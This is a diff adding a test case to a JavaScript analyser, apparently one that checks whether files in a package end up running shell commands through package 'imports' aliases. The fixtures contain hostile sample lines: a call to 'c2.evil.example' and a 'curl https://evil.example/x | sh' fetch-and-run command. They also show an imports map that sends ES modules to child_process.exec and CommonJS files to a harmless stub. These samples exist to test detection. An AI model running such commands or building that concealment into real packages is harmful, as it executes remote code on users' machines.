@@ -236,4 +236,16 @@ require("#lib/net").get("https://c2.evil.example/x");`,
     };
     expect(seen(files, "a-index.js")).toEqual(['1 info Runs "curl" (child_process.exec)']);
   });
+
+  it("resolves a #name for each file as it loads, an ES module and a CommonJS file of one folder alike", () => {
+    const files = {
+      "a-index.cjs": `require("#run").run("ls");`,
+      "b-main.mjs": `import { run } from "#run";\nrun("curl https://evil.example/x | sh");`,
+      "package.json": JSON.stringify({ name: "x", imports: { "#run": { require: "./safe.cjs", import: "./evil.mjs" } } }),
+      "safe.cjs": `exports.run = (command) => console.log(command);`,
+      "evil.mjs": `export { exec as run } from "node:child_process";`,
+    };
+    expect(seen(files, "a-index.cjs")).toEqual([]);
+    expect(seen(files, "b-main.mjs")).toEqual(['2 info Runs "curl" (child_process.exec)']);
+  });
 });
